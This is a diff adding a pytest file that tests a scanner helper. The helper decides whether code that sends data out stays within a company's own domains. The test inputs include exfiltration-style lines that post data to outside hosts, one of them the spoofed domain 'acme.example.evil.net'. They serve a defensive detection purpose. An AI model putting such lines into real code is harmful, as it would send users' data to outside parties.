@@ -1,0 +1,26 @@
+"""A rule of sending out is not told of a script that names the company's own machines alone."""
+
+import pytest
+
+from scanners.engines.semgrep import _stays_inside
+
+DOMAINS = ("acme.example", "acme.pt")
+INSIDE = [
+    "requests.post('https://api.acme.example/v1', data=d)", "ftp = FTP('files.acme.pt')",
+    "post('https://a.acme.pt'); post('https://ACME.example/x')",
+]  # fmt: skip
+OUTSIDE = [
+    "requests.post('https://api.other.example/v1', data=d)", "requests.post('https://acme.example.evil.net', data=d)",
+    "requests.post('https://notacme.example/v1', data=d)",
+    "post('https://a.acme.pt'); post('https://transfer.example.org')", "requests.post(url, data=d)",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("text", INSIDE)
+def test_what_goes_to_the_company_stays_inside(text):
+    assert _stays_inside(text, DOMAINS)
+
+
+@pytest.mark.parametrize("text", OUTSIDE)
+def test_what_goes_to_others_or_nobody_knows_where_does_not(text):
+    assert not _stays_inside(text, DOMAINS)
